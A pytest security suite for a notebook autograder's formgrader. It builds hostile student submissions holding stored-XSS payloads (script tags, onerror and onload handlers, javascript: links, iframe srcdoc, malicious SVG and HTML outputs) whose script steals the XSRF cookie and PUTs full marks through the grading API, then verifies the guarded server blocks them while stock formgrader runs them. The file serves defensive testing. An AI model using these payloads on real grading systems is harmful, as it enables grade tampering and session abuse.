"""Can a submission run code in the instructor's browser, or through formgrader's server?
(issue 20, class 1)

Hostile a4 submissions, each graded between honest ones, carry a catalogue of payloads in
their hand-graded markdown answers (``<img onerror>``, ``<svg onload>``, ``javascript:`` links,
``<iframe srcdoc>``, ``<style>`` and ``<meta refresh>`` reaching out, a ``<script>``, an SVG
attachment) and in outputs of an ordinary code cell (``text/html`` with a script, an
``image/svg+xml`` with ``onload``, ``application/javascript``, ``text/markdown`` with an
``onerror``, a PNG whose "base64" breaks out of its attribute). Headless Chromium opens every
submission in formgrader as the instructor would. A payload that ran would set
``window.__pwned``, make a request that a local recorder sees, or PUT full marks through
formgrader's API; none may. The server refuses kernels, terminals, sessions, contents and
formgrader's code-running actions, runs as a non-root uid, and bounds manual scores and extra
credit by the cell's points. The grader's own pages (feedback, similarity) forbid scripts.
"""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
import urllib.error
import urllib.request
from pathlib import Path

import nbformat
import pytest

from autograder import safe_html
from autograder.grading import authoring
from autograder.term import formgrade
from tests.autograder.recorder import Recorder

A = "a4_mlp"
CHROMIUM = Path("/usr/bin/chromium")
COURSE_OWNER = 4242  #: the instructor's account in these tests (the server drops to it)
pytestmark = pytest.mark.skipif(not CHROMIUM.exists(), reason="needs Debian's chromium")
HONEST = ("a0", "c2", "e4")  # graded (alphabetically) and viewed in turn with the attackers
KEPT_BY_GRADER: set[str] = set()  #: output types of d3's extra cell in its graded notebook
ATTACKERS = ("b1", "d3")  # markdown answers; outputs of an ordinary code cell


def js(name: str, base: str) -> str:
    """What each scripted payload does: mark the page, call home, and mark itself graded."""
    return (
        f"window.__pwned=(window.__pwned||[]).concat('{name}');"
        f"fetch('{base}/js/{name}');"
        "fetch('/formgrader/api/grades').then(r=>r.json()).then(gs=>gs.forEach(g=>"
        "fetch('/formgrader/api/grade/'+g.id,{method:'PUT',headers:{'X-XSRFToken':"
        "document.cookie.replace(/.*_xsrf=([^;]*).*/,'$1')},body:JSON.stringify("
        "{manual_score:g.max_score,extra_credit:10})})))"
    )


def markdown_payloads(base: str) -> dict[str, str]:
    """q1..q4 of the markdown attacker: an honest-looking answer ending in payloads."""
    e = lambda name: js(name, base).replace('"', "&quot;")  # noqa: E731 (inside attributes)
    return {
        "q1": "Decay shrinks the steps late in training.\n\n"
        f'<img src=x style="display:none" onerror="{e("img-onerror")}">\n\n'
        f'<svg onload="{e("svg-onload")}"><circle r="4"/></svg>',
        "q2": "Saddle points slow training.\n\n"
        f'<a id="jslink" href="javascript:{e("javascript-link")}">see</a> and '
        f"[more](javascript:{js('markdown-js-link', base)})\n\n"
        f'<iframe srcdoc="<script>{e("iframe-srcdoc")}</script>"></iframe>',
        "q3": "Grid search wastes trials.\n\n"
        f"<style>body{{background:url({base}/css/style-url)}}</style>\n\n"
        f'<meta http-equiv="refresh" content="0;url={base}/meta/refresh">\n\n'
        f"<script>{js('script-tag', base)}</script>\n\n"
        f'<object data="{base}/object/data"></object>',
        "q4": "A mini-batch is a small sample of the data.\n\n![diagram](attachment:evil.svg)",
    }


def svg_attachment(base: str) -> str:
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js("attachment-svg", base)}">'
        f'<image href="{base}/attachment/image"/><script>{js("attachment-script", base)}'
        "</script></svg>"
    )
    return base64.b64encode(svg.encode()).decode()


OUTPUT_CELL = """from IPython.display import display
display({"text/html": "<b>plot</b><script>window.__pwned = ['html-script']</script>"}, raw=True)
"""


def hostile_outputs(base: str) -> list:
    """Outputs of the ordinary code cell, as a notebook can hold them."""
    e = lambda name: js(name, base).replace('"', "&quot;")  # noqa: E731 (inside attributes)
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{e("svg-output")}"><script>'
    display = [
        {"text/html": f"<b>plot</b><script>{js('html-script', base)}</script>"},
        {"image/svg+xml": svg + js("svg-output-script", base) + "</script></svg>"},
        {"application/javascript": js("javascript-output", base)},
        {"text/markdown": f'<img src=x onerror="{e("markdown-output")}">'},
        {"image/png": f'x" onerror="{e("png-breakout")}', "text/plain": "png"},
        {"text/html": f'<iframe srcdoc="<script>{e("output-iframe")}</script>"></iframe>'},
    ]
    return [nbformat.v4.new_output("display_data", data=d) for d in display]


@pytest.fixture(scope="module")
def recorder():
    r = Recorder()
    yield r
    r.server.shutdown()


@pytest.fixture(scope="module")
def course(tmp_path_factory, recorder, released_course):
    """a4 graded for three honest students and two attackers, in alternation; the course
    folder given to an unprivileged account (the instructor's) when the tests run as root."""
    course = tmp_path_factory.mktemp("browser") / "course"
    released_course(A, course)
    released = nbformat.read(course / "release" / A / f"{A}.ipynb", as_version=4)
    reference = authoring.solutions(authoring.read_source(A))
    for student in sorted(HONEST + ATTACKERS):
        answers = dict(reference, q1=f"Honest answer of {student}: decay shrinks the steps.")
        if student == "b1":
            answers.update(markdown_payloads(recorder.base))
        nb = authoring.submission(released, answers)
        if student == "d3":
            nb.cells.insert(3, nbformat.v4.new_code_cell(OUTPUT_CELL))
        folder = course / "submitted" / student / A
        folder.mkdir(parents=True)
        nbformat.write(nb, folder / f"{A}.ipynb")
    done = subprocess.run(
        [sys.executable, "-m", "autograder", "grade", A, "--course", str(course), "--jobs", "1"],
        capture_output=True, text=True,
    )  # fmt: skip
    assert done.returncode == 0 and "graded 5 of 5" in done.stdout, done.stdout + done.stderr
    # The grader keeps no display output and no attachment (test_grader_keeps_no_active_output);
    # formgrader must be safe whatever a notebook holds, so the graded notebooks get them here.
    graded = {s: course / "autograded" / s / A / f"{A}.ipynb" for s in ATTACKERS}
    b1 = nbformat.read(graded["b1"], as_version=4)
    q4 = next(c for c in b1.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "q4")
    q4["attachments"] = {"evil.svg": {"image/svg+xml": svg_attachment(recorder.base)}}
    nbformat.write(b1, graded["b1"])
    d3 = nbformat.read(graded["d3"], as_version=4)
    cell = next(c for c in d3.cells if c.source == OUTPUT_CELL)
    KEPT_BY_GRADER.update(k for o in cell.outputs for k in o.get("data", {}))
    cell.outputs = hostile_outputs(recorder.base)
    nbformat.write(d3, graded["d3"])
    if os.geteuid() == 0:
        os.chown(course, COURSE_OWNER, COURSE_OWNER)
    return course


@pytest.fixture(scope="module")
def server(course):
    server = formgrade.start(course=course)
    yield server
    server.stop()


def manual_scores(course) -> dict[str, dict[str, tuple]]:
    from nbgrader.api import Gradebook

    from autograder.config import COURSE_ID, default_db_url

    with Gradebook(default_db_url(course), course_id=COURSE_ID) as gb:
        return {
            s: {
                g.name: (g.manual_score, g.extra_credit)
                for g in gb.find_submission(A, s).notebooks[0].grades
            }
            for s in HONEST + ATTACKERS
        }


def test_grader_keeps_no_active_output_and_the_markdown_payloads_reach_formgrader(course):
    """The graded notebook keeps the student's answers (the markdown payloads are real) but
    only text outputs: the display output of d3's extra cell came back as text, if at all."""
    b1 = (course / "autograded" / "b1" / A / f"{A}.ipynb").read_text()
    for marker in ("img-onerror", "svg-onload", "iframe-srcdoc", "script-tag", "evil.svg"):
        assert marker in b1
    assert KEPT_BY_GRADER <= {"text/plain"}, KEPT_BY_GRADER


def test_no_payload_runs_when_the_instructor_opens_every_submission(course, server, recorder):
    from playwright.sync_api import sync_playwright

    before = manual_scores(course)
    base = server.url.split("/formgrader?")[0]
    ids = json.loads(get(server, f"/formgrader/api/submitted_notebooks/{A}/{A}").read())
    order = {s["student"]: s["id"] for s in ids}
    seen = {}
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox"])
        page = browser.new_page()
        log = []  # what the browser said: shown if formgrader's own page stops working
        page.on("console", lambda m: log.append(f"{m.type}: {m.text[:200]}"))
        page.on("request", lambda r: log.append(f"{r.method} {r.url[-60:]}"))
        page.goto(server.url)  # the token becomes a cookie
        for student in ("a0", "b1", "c2", "d3", "e4"):  # each attacker between honest ones
            page.goto(f"{base}/formgrader/submissions/{order[student]}/")
            page.wait_for_load_state("networkidle")
            page.wait_for_timeout(1000)  # a meta refresh, late onload handlers
            for link in page.query_selector_all("#notebook-container a"):
                href = link.get_attribute("href") or ""
                if not href.startswith(("http:", "https:")):
                    link.click(force=True, no_wait_after=True)
            page.wait_for_timeout(300)
            seen[student] = (page.evaluate("window.__pwned || []"), page.url,
                             page.inner_text("#notebook-container"))  # fmt: skip
        # formgrader's own scripts still work under the policy: grade an honest answer
        page.goto(f"{base}/formgrader/submissions/{order['c2']}/")
        page.wait_for_load_state("networkidle")  # its views hold the grades they will save
        saved = lambda r: "/api/grade/" in r.url and r.request.method == "PUT"  # noqa: E731
        log.append("-- grading c2")
        try:
            with page.expect_response(saved, timeout=20_000) as answer:
                page.fill("#q1", "1.5")
                page.press("#q1", "Tab")
        except Exception as error:
            raise AssertionError("\n".join(log[-40:])) from error
        assert answer.value.status == 200
        browser.close()
    for student, (pwned, url, text) in seen.items():
        assert pwned == [], (student, pwned)
        where = url.split("#")[0]  # in-page anchors were clicked too
        assert where.endswith(f"/formgrader/submissions/{order[student]}/"), (student, url)
        assert f"Honest answer of {student}" in text or student == "b1"
    assert "Decay shrinks the steps late in training" in seen["b1"][2]  # shown, as text
    assert recorder.hits == []
    after = manual_scores(course)
    for student in HONEST + ATTACKERS:
        expected = dict(before[student])
        if student == "c2":
            expected["q1"] = (1.5, None)
        assert after[student] == expected, student


def get(server, path, method="GET", body=None):
    base, token = server.url.split("/formgrader?token=")
    headers = {"Authorization": f"token {token}", "Content-Type": "application/json"}
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(base + path, data=data, method=method, headers=headers)
    return urllib.request.urlopen(request, timeout=30)


def status(server, path, method="GET", body=None) -> int:
    try:
        with get(server, path, method, body) as answer:
            return answer.status
    except urllib.error.HTTPError as refused:
        return refused.code


@pytest.mark.parametrize(
    "method, path",
    [
        ("GET", "/api/kernels"),
        ("POST", "/api/kernels"),
        ("GET", "/api/kernelspecs"),
        ("GET", "/api/sessions"),
        ("POST", "/api/sessions"),
        ("GET", "/api/terminals"),
        ("POST", "/api/terminals"),
        ("GET", "/api/contents/nbgrader_config.py"),
        ("PUT", "/api/contents/evil.py"),
        ("POST", "/api/contents"),
        ("PATCH", "/api/contents/nbgrader_config.py"),
        ("DELETE", "/api/contents/gradebook.db"),
        ("GET", "/files/gradebook.db"),
        ("GET", "/nbconvert/html/source/a4_mlp/a4_mlp.ipynb"),
        ("GET", "/lab"),
        ("GET", "/tree"),
        ("POST", f"/formgrader/api/submission/{A}/b1/autograde"),
        ("POST", f"/formgrader/api/assignment/{A}/generate_feedback"),
        ("POST", f"/formgrader/api/assignment/{A}/release"),
        ("POST", f"/formgrader/api/assignment/{A}/collect"),
        ("POST", f"/formgrader/api/assignment/{A}/assign"),
        ("PUT", f"/formgrader/api/assignment/{A}"),
        ("PUT", "/formgrader/api/student/b1"),
        ("GET", "/formgrader/../api/kernels"),
        ("GET", "/formgrader/submissions/x/a4_mlp.ipynb"),  # a submission folder's files
    ],
)
def test_the_server_refuses_what_runs_code_or_writes_files(server, method, path):
    body = {} if method in ("POST", "PUT", "PATCH") else None
    assert status(server, path, method, body) == 403


def test_the_server_serves_grading_and_runs_as_the_course_owner(server, course):
    assert status(server, "/api/status") == 200
    assert status(server, f"/formgrader/api/submitted_notebooks/{A}/{A}") == 200
    uid = [int(x) for x in Path(f"/proc/{server.process.pid}/status").read_text().split(
        "\nUid:")[1].split("\n")[0].split()]  # fmt: skip
    assert 0 not in uid
    if os.geteuid() == 0:
        assert set(uid) == {COURSE_OWNER}
    with get(server, "/formgrader/gradebook") as page:
        policy = page.headers["Content-Security-Policy"]
    assert "script-src 'self' 'nonce-" in policy and "'unsafe-inline'" not in policy.split(
        "style-src")[0]  # fmt: skip


def test_manual_scores_and_extra_credit_stay_within_the_cells_points(server, course):
    from nbgrader.api import Gradebook

    from autograder.config import COURSE_ID, default_db_url

    with Gradebook(default_db_url(course), course_id=COURSE_ID) as gb:
        grade = next(g for g in gb.find_submission(A, "e4").notebooks[0].grades if g.name == "q2")
        grade_id, points = grade.id, grade.max_score
    path = f"/formgrader/api/grade/{grade_id}"
    for bad in ({"manual_score": points, "extra_credit": 10 * points},
                {"manual_score": 1e9, "extra_credit": None},
                {"manual_score": -1, "extra_credit": None},
                {"manual_score": points, "extra_credit": float("nan")},
                {"manual_score": "two", "extra_credit": None},
                {"manual_score": "1e999", "extra_credit": None},
                {"manual_score": 0, "extra_credit": str(points + 1)}):  # fmt: skip
        assert status(server, path, "PUT", bad) == 400, bad
    assert status(server, path, "PUT", {"manual_score": "1.5", "extra_credit": None}) == 200
    assert manual_scores(course)["e4"]["q2"] == (1.5, None)  # as formgrader's page sends it
    assert status(server, path, "PUT", {"manual_score": points, "extra_credit": 1.0}) == 200
    assert manual_scores(course)["e4"]["q2"] == (points, 1.0)


def test_formgrade_refuses_to_serve_as_root_from_a_root_owned_course(tmp_path):
    if os.geteuid() != 0:
        pytest.skip("only root can be refused")
    from autograder.term import release

    release.main(assignment=A, course=tmp_path / "course")
    with pytest.raises(ValueError, match="will not run its web server as root"):
        formgrade.start(course=tmp_path / "course")


def test_sanitise_keeps_text_and_drops_every_active_part():
    """Parsed back by Python's own HTML parser: only inert elements and attributes remain."""
    from html.parser import HTMLParser

    dirty = (
        '<p>kept</p><img src=x onerror="alert(1)"><svg onload=alert(1)></svg>'
        '<a href=" java\tscript:alert(1)">a</a><a href="https://x.org/">b</a>'
        '<iframe srcdoc="<script>alert(1)</script>"></iframe><style>*{}</style>'
        '<meta http-equiv="refresh" content="0;url=http://x"><h2 id="q1" class="score">t</h2>'
        '<img src="data:text/html;base64,PHNjcmlwdD4="><img src="data:image/png;base64,iVBO">'
        "<object data=x></object><form action=x><input></form><base href=x>"
    )
    found = []

    class Elements(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, dict(attrs)))

    clean = safe_html.sanitise(dirty)
    Elements().feed(clean)
    assert {tag for tag, _ in found} <= {"p", "img", "a", "h2"}
    attributes = {name for _, attrs in found for name in attrs}
    assert attributes <= {"src", "href"}, attributes
    links = [a.get("href") or a.get("src") for _, a in found if a.get("href") or a.get("src")]
    assert links == ["x", "https://x.org/", "data:image/png;base64,iVBO"]
    assert "<p>kept</p>" in clean and "&lt;script&gt;" in clean  # shown as text


def test_the_graders_own_pages_forbid_scripts(course):
    from autograder.term import feedback, similarity

    pages = feedback.main(assignment=A, course=course)
    report = similarity.main(assignment=A, course=course).report
    for page in [*pages, report]:
        head = Path(page).read_text().split("</head>")[0]
        assert safe_html.PAGE_CSP_META in head, page
        assert "script-src" not in safe_html.PAGE_CSP and "default-src 'none'" in head


def test_control_the_same_pages_run_the_payloads_under_stock_formgrader(course, recorder, tmp_path):
    """The catalogue is live: nbgrader's formgrader as shipped (no allow-list, sanitiser or
    policy), on a copy of the course, runs the payloads of both attackers."""
    import secrets
    import shutil
    import time

    from playwright.sync_api import sync_playwright

    copy = tmp_path / "course"
    shutil.copytree(course, copy, symlinks=True)
    formgrade.write_config(copy)  # its own gradebook, not the course's
    token, port = secrets.token_hex(16), formgrade._free_port()
    env = {**os.environ, "JUPYTER_PLATFORM_DIRS": "1", "JUPYTER_NO_CONFIG": "1",
           "PYTHONWARNINGS": "ignore"}  # fmt: skip
    command = [sys.executable, "-m", "jupyter_server", "--no-browser", "--ip=127.0.0.1",
               f"--port={port}", f"--ServerApp.root_dir={copy}", f"--IdentityProvider.token={token}",
               "--ServerApp.jpserver_extensions={'nbgrader.server_extensions.formgrader': True}",
               *(["--allow-root"] if os.geteuid() == 0 else [])]  # fmt: skip
    stock = subprocess.Popen(command, cwd=copy, env=env, stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL, start_new_session=True)  # fmt: skip
    base, pwned, hits = f"http://127.0.0.1:{port}", {}, len(recorder.hits)
    try:
        for _ in range(120):
            try:
                urllib.request.urlopen(f"{base}/api/status?token={token}", timeout=2)
                break
            except OSError:
                time.sleep(0.5)
        headers = {"Authorization": f"token {token}"}
        listing = urllib.request.Request(
            f"{base}/formgrader/api/submitted_notebooks/{A}/{A}", headers=headers
        )
        order = {s["student"]: s["id"] for s in json.loads(urllib.request.urlopen(listing).read())}
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox"])
            page = browser.new_page()
            page.goto(f"{base}/formgrader?token={token}")
            for student in ATTACKERS:
                page.goto(f"{base}/formgrader/submissions/{order[student]}/")
                page.wait_for_timeout(2500)
                pwned[student] = page.evaluate("window.__pwned || []")
            browser.close()
    finally:
        stock.terminate()
        stock.wait(timeout=30)
    seen = {h.rsplit("/", 1)[-1] for h in recorder.hits[hits:]}
    del recorder.hits[hits:]  # what the guarded server's test asserts is its own
    assert {"img-onerror", "script-tag", "svg-onload", "refresh"} <= seen, seen  # markdown
    assert {"html-script", "javascript-output", "markdown-output"} <= set(pwned["d3"]), pwned
